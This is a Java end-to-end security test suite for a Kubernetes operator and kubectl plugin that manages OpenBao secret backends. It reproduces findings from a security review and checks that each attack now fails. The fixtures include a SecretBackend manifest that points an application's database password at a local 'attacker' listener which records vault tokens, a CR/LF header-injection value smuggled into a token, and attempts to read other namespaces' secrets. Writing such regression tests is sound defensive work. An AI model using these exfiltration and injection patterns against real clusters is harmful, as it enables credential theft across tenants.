package io.mcpctl.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpServer;
import io.mcpctl.e2e.PluginE2E.Result;
import io.mcpctl.e2e.support.Repository;
import io.mcpctl.e2e.support.SandboxUp;
import io.mcpctl.sandbox.process.OperatorLauncher;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * The security review's reproductions, each end to end through the real kubectl, the packaged
 * plugin and the operator process against {@code sandbox up}: whoever may edit a SecretBackend or a
 * Secret in one namespace tries to reach another namespace's secrets, borrow a Secret, send a token
 * to a listener of theirs, make the operator revoke the token consumers use, or leave a backend
 * without a status. Every test here failed against the code before the fixes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class SecurityE2E {

  private static final Pattern POLICY_TEXT =
      Pattern.compile("\"policy\":\"((?:[^\"\\\\]|\\\\.)*)\"");

  private Path work;
  private SandboxUp sandbox;
  private HttpServer attacker;
  private final List<String> stolen = new CopyOnWriteArrayList<>();
  private final List<Result> results = new CopyOnWriteArrayList<>();

  @BeforeAll
  void start(@TempDir Path temporary) throws IOException {
    work = temporary;
    // Health checks every 3s: what only a check finds shows within a test.
    sandbox = SandboxUp.start(work, "--health-check-interval", "3s");
    attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    attacker.createContext(
        "/",
        exchange -> {
          stolen.add(
              exchange.getRequestURI()
                  + " "
                  + exchange.getRequestHeaders().getFirst("X-Vault-Token"));
          exchange.sendResponseHeaders(500, -1);
          exchange.close();
        });
    attacker.start();
    for (String namespace : List.of("team-b", "team-c", "team-d")) {
      succeeded(kubectl("create", "namespace", namespace));
    }
  }

  @AfterAll
  void stop() {
    if (attacker != null) {
      attacker.stop(0);
    }
    if (sandbox != null) {
      sandbox.close();
    }
  }

  /** Defects 1 and 2: one namespace's token read another's secrets; a re-run rewrote its policy. */
  @Test
  @Order(1)
  void aNamespacesTokenReadsOnlyItsOwnSecretsAndAWizardRunElsewhereLeavesItsPolicyAlone() {
    succeeded(wizard("default", "bao"));
    succeeded(wizard("team-b", "bao"));
    succeeded(plugin("create", "secret", "payroll", "--from-literal", "salary=1", "-n", "team-b"));
    succeeded(plugin("create", "secret", "github", "--from-literal", "token=x", "-n", "default"));
    String defaultToken = tokenOf("default", "bao-token");
    String teamBToken = tokenOf("team-b", "bao-token");

    assertThat(
            sandbox
                .openBao("GET", "secret/data/mcpctl/team-b/payroll", defaultToken, null)
                .status())
        .as("default's token reading team-b's payroll")
        .isEqualTo(403);
    assertThat(
            sandbox.openBao("GET", "secret/data/mcpctl/team-b/payroll", teamBToken, null).status())
        .isEqualTo(200);
    assertThat(sandbox.openBao("LIST", "secret/metadata/mcpctl/", defaultToken, null).status())
        .as("default's token listing every namespace")
        .isEqualTo(403);

    String defaultPolicy = policy("mcpctl-default.bao");
    succeeded(wizard("team-b", "bao"));
    assertThat(policy("mcpctl-default.bao")).isEqualTo(defaultPolicy).contains("mcpctl/default/*");
    Result get = succeeded(plugin("get", "secret", "github", "-n", "default", "-o", "json"));
    assertThat(get.stdout()).contains("github");
    awaitHealth("default", "bao", "Healthy");
  }

  /** Defect 3: a SecretBackend as a confused deputy for an application's Secret. */
  @Test
  @Order(2)
  void aBackendNamingAnApplicationsSecretDeliversNothingAndDeletesNothing() {
    succeeded(
        kubectlWithInput(
            """
            apiVersion: v1
            kind: Secret
            metadata: {name: db, namespace: team-c}
            stringData: {password: hunter2-database-password}
            ---
            apiVersion: mcpctl.io/v1alpha1
            kind: SecretBackend
            metadata: {name: thief, namespace: team-c}
            spec:
              type: openbao
              openbao:
                address: %s
                auth:
                  tokenSecretRef: {name: db, key: password}
                  rotation: {enabled: true, tokenRole: anything}
            """
                .formatted(attackerAddress()),
            "apply",
            "-f",
            "-"));

    await()
        .atMost(Duration.ofSeconds(30))
        .untilAsserted(
            () ->
                assertThat(jsonPath("team-c", "thief", "{.status.conditions[0].reason}"))
                    .isEqualTo("SecretNotBound"));
    Result describe = succeeded(plugin("describe", "secretbackend", "thief", "-n", "team-c"));
    assertThat(describe.stdout()).contains("SecretNotBound").doesNotContain("hunter2");
    succeeded(kubectl("delete", "secretbackend", "thief", "-n", "team-c", "--timeout=30s"));

    assertThat(stolen).as("requests that reached the attacker's listener").isEmpty();
    assertThat(succeeded(kubectl("get", "secret", "db", "-n", "team-c")).exitCode()).isZero();
  }

  /** Defect 4: two backends naming one token Secret; deleting one revoked the other's token. */
  @Test
  @Order(3)
  void aSecondBackendNamingAnotherBackendsTokenSecretNeitherUsesNorDeletesIt() {
    String tokenBefore = tokenOf("default", "bao-token");
    succeeded(
        kubectlWithInput(
            """
            apiVersion: mcpctl.io/v1alpha1
            kind: SecretBackend
            metadata: {name: borrower, namespace: default}
            spec:
              type: openbao
              openbao:
                address: %s
                auth:
                  tokenSecretRef: {name: bao-token, key: token}
                  rotation: {enabled: true, tokenRole: mcpctl-default.bao-rotator}
            """
                .formatted(sandbox.openBaoAddress()),
            "apply",
            "-f",
            "-"));
    await()
        .atMost(Duration.ofSeconds(30))
        .untilAsserted(
            () ->
                assertThat(jsonPath("default", "borrower", "{.status.conditions[0].reason}"))
                    .isEqualTo("SecretNotBound"));

    succeeded(kubectl("delete", "secretbackend", "borrower", "-n", "default", "--timeout=30s"));

    assertThat(tokenOf("default", "bao-token")).isEqualTo(tokenBefore);
    assertThat(sandbox.openBao("GET", "auth/token/lookup-self", tokenBefore, null).status())
        .as("bao's token survives the borrower's deletion")
        .isEqualTo(200);
    awaitHealth("default", "bao", "Healthy");
  }

  /** Defect 5: previous-token set to the current token made the operator revoke it. */
  @Test
  @Order(4)
  void aTamperedPreviousTokenNeverMakesTheOperatorRevokeTheCurrentOne() {
    succeeded(plugin("rotate", "secretbackend", "bao", "-n", "team-b", "--timeout", "60s"));
    String current = tokenOf("team-b", "bao-token");
    String previous =
        decoded(jsonPathOf("secret", "team-b", "bao-token", "{.data.previous-token}"));
    assertThat(previous).as("a predecessor is held for its grace period").isNotBlank();

    succeeded(
        kubectl(
            "patch",
            "secret",
            "bao-token",
            "-n",
            "team-b",
            "--type",
            "merge",
            "-p",
            "{\"data\":{\"previous-token\":\"" + encoded(current) + "\"}}"));

    await()
        .atMost(Duration.ofSeconds(60))
        .untilAsserted(
            () ->
                assertThat(jsonPathOf("secret", "team-b", "bao-token", "{.data.previous-token}"))
                    .isEmpty());
    assertThat(sandbox.openBao("GET", "auth/token/lookup-self", current, null).status())
        .as("the token consumers use survives the grace end")
        .isEqualTo(200);
    assertThat(tokenOf("team-b", "bao-token")).isEqualTo(current);
    assertThat(events("team-b")).contains("SecretRepaired");
    awaitHealth("team-b", "bao", "Healthy");
  }

  /** Defect 6: the plugin printed the file --kubeconfig pointed at by mistake. */
  @Test
  @Order(5)
  void thePluginNeverPrintsAFileItWasPointedAtByMistake() {
    for (Path file :
        List.of(
            sandbox.directory().resolve("admin-token"),
            sandbox.directory().resolve("openbao.env"))) {
      Result result =
          PluginE2E.run(
              PluginE2E.pluginDirectory(),
              Map.of(),
              null,
              "kubectl",
              "mcpctl",
              "--kubeconfig",
              file.toString(),
              "describe",
              "secretbackend",
              "bao");
      results.add(result);
      assertThat(result.exitCode()).as(result.toString()).isNotZero();
      assertThat(result.stderr()).contains(file.toString()).contains("is not a kubeconfig");
    }
    assertNowhere(sandbox.rootToken());
  }

  /** Defect 7: a token with CR/LF or a port beyond 65535 left a backend without a status. */
  @Test
  @Order(6)
  void badInputEndsInAWrittenStatusOrARefusalNeverInSilence() {
    succeeded(wizard("team-d", "bao"));
    awaitHealth("team-d", "bao", "Healthy");
    String good = tokenOf("team-d", "bao-token");

    setToken("team-d", "bao-token", good + "\r\nX-Injected: 1");
    await()
        .atMost(Duration.ofSeconds(30))
        .untilAsserted(
            () ->
                assertThat(jsonPath("team-d", "bao", "{.status.conditions[0].reason}"))
                    .isEqualTo("SecretInvalid"));
    setToken("team-d", "bao-token", good);
    // The operator does not watch Secrets: it looks again a failed check's retry (1m) later.
    await()
        .atMost(Duration.ofSeconds(90))
        .untilAsserted(
            () ->
                assertThat(jsonPath("team-d", "bao", "{.status.conditions[0].status}"))
                    .isEqualTo("True"));

    Result port =
        kubectlWithInput(
            """
            apiVersion: mcpctl.io/v1alpha1
            kind: SecretBackend
            metadata: {name: far, namespace: team-d}
            spec:
              type: openbao
              openbao:
                address: http://127.0.0.1:99999
                auth: {tokenSecretRef: {name: bao-token, key: token}}
            """,
            "apply",
            "-f",
            "-");
    assertThat(port.exitCode()).as(port.toString()).isNotZero();
    assertThat(port.stderr()).contains("spec.openbao.address");
  }

  /** Defect 8: a mint interrupted by the leader's death left a token nobody knew of. */
  @Test
  @Order(7)
  void aMintInterruptedByTheOperatorsDeathIsWaitedForThenReportedAsAPossibleOrphan()
      throws Exception {
    succeeded(
        sandbox.admin(
            "POST",
            "faults",
            "{\"method\":\"POST\",\"path\":\"auth/token/create/mcpctl-team-d.bao-rotator\","
                + "\"delay\":\"6s\",\"times\":1}"));
    succeeded(plugin("rotate", "secretbackend", "bao", "-n", "team-d", "--no-wait"));
    await()
        .atMost(Duration.ofSeconds(30))
        .untilAsserted(
            () ->
                assertThat(jsonPathOf("secret", "team-d", "bao-token", "{.metadata.annotations}"))
                    .contains("mcpctl.io/mint-started-at"));
    ProcessHandle.of(sandbox.operatorPid()).orElseThrow().destroyForcibly();
    OperatorLauncher.Running replacement = startOperator("--openbao-mint-timeout=2s");
    try {
      await()
          .atMost(Duration.ofSeconds(60))
          .untilAsserted(() -> assertThat(events("team-d")).contains("PossibleOrphan"));
      await()
          .atMost(Duration.ofSeconds(60))
          .untilAsserted(
              () ->
                  assertThat(jsonPath("team-d", "bao", "{.status.tokenMeta.handledRotateRequest}"))
                      .isNotBlank());
      String message = eventMessage("team-d", "PossibleOrphan");
      assertThat(message).contains("kubectl mcpctl audit tokens bao -n team-d");
    } finally {
      replacement.close();
    }
    assertNowhere(sandbox.rootToken());
  }

  private OperatorLauncher.Running startOperator(String... flags) {
    List<String> all =
        new ArrayList<>(
            List.of("--leader-election=false", "--metrics-port=0", "--health-check-interval=3s"));
    all.addAll(List.of(flags));
    return OperatorLauncher.jar(
            Repository.root()
                .resolve("operator")
                .resolve(Repository.target())
                .resolve("mcpctl-operator.jar"))
        .flags(all)
        .kubeconfig(sandbox.operatorKubeconfig())
        .log(work.resolve("replacement-operator.log"))
        .start();
  }

  private Result wizard(String namespace, String backend) {
    return pluginWithInput(
        sandbox.rootToken() + "\n",
        "create",
        "secretbackend",
        backend,
        "--type",
        "openbao",
        "--wizard",
        "--url",
        sandbox.openBaoAddress(),
        "--admin-token-file",
        "-",
        "-n",
        namespace,
        "--yes",
        "--revoke-grace-period",
        "15s");
  }

  private void setToken(String namespace, String secret, String value) {
    succeeded(
        kubectl(
            "patch",
            "secret",
            secret,
            "-n",
            namespace,
            "--type",
            "merge",
            "-p",
            "{\"data\":{\"token\":\"" + encoded(value) + "\"}}"));
  }

  private void awaitHealth(String namespace, String backend, String health) {
    await()
        .atMost(Duration.ofSeconds(60))
        .untilAsserted(
            () ->
                assertThat(jsonPath(namespace, backend, "{.status.tokenMeta.health}"))
                    .isEqualTo(health));
  }

  /** The policy's text as OpenBao holds it (the answer's {@code data.policy}). */
  private String policy(String name) {
    SandboxUp.Answer answer =
        sandbox.openBao("GET", "sys/policies/acl/" + name, sandbox.rootToken(), null);
    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    Matcher text = POLICY_TEXT.matcher(answer.body());
    assertThat(text.find()).as(answer.body()).isTrue();
    return text.group(1).replace("\\n", "\n").replace("\\\"", "\"");
  }

  private String tokenOf(String namespace, String secret) {
    return decoded(jsonPathOf("secret", namespace, secret, "{.data.token}"));
  }

  private String jsonPath(String namespace, String backend, String path) {
    return jsonPathOf("secretbackend", namespace, backend, path);
  }

  private String jsonPathOf(String kind, String namespace, String name, String path) {
    Result result = kubectl("get", kind, name, "-n", namespace, "-o", "jsonpath=" + path);
    assertThat(result.exitCode()).as(result.toString()).isZero();
    return result.stdout().strip();
  }

  private List<String> events(String namespace) {
    Result result = kubectl("get", "events", "-n", namespace, "-o", "jsonpath={.items[*].reason}");
    return List.of(result.stdout().strip().split("\\s+"));
  }

  private String eventMessage(String namespace, String reason) {
    return kubectl(
            "get",
            "events",
            "-n",
            namespace,
            "-o",
            "jsonpath={.items[?(@.reason==\"" + reason + "\")].message}")
        .stdout();
  }

  /** No output of any command, and no file but the two meant for it, holds {@code secret}. */
  private void assertNowhere(String secret) {
    List<String> forms =
        List.of(
            secret, Base64.getEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8)));
    for (Result result : results) {
      for (String form : forms) {
        assertThat((result.stdout() + result.stderr()).contains(form))
            .as("the output of %s holds the root token", result.command())
            .isFalse();
      }
    }
    try (var files = Files.walk(work)) {
      files
          .filter(Files::isRegularFile)
          .filter(file -> !file.equals(sandbox.directory().resolve("openbao.env")))
          .filter(file -> !file.equals(sandbox.directory().resolve("admin-token")))
          .forEach(
              file -> {
                String content = SandboxUp.read(file);
                for (String form : forms) {
                  assertThat(content.contains(form)).as("%s holds the root token", file).isFalse();
                }
              });
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private String attackerAddress() {
    return "http://127.0.0.1:" + attacker.getAddress().getPort();
  }

  private static String encoded(String value) {
    return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
  }

  private static String decoded(String value) {
    return value.isEmpty()
        ? ""
        : new String(Base64.getDecoder().decode(value), StandardCharsets.UTF_8);
  }

  private static SandboxUp.Answer succeeded(SandboxUp.Answer answer) {
    assertThat(answer.status()).as(answer.body()).isBetween(200, 299);
    return answer;
  }

  private static Result succeeded(Result result) {
    return PluginE2E.succeeded(result);
  }

  private Result plugin(String... args) {
    return pluginWithInput(null, args);
  }

  private Result pluginWithInput(String stdin, String... args) {
    Result result =
        PluginE2E.run(PluginE2E.pluginDirectory(), Map.of(), stdin, sandbox.pluginCommand(args));
    results.add(result);
    return result;
  }

  private Result kubectl(String... args) {
    return kubectlWithInput(null, args);
  }

  private Result kubectlWithInput(String stdin, String... args) {
    Result result =
        PluginE2E.run(
            PluginE2E.pluginDirectory(),
            Map.of(),
            stdin,
            sandbox.kubectlCommand(work.resolve("kubectl-cache"), args));
    results.add(result);
    return result;
  }
}
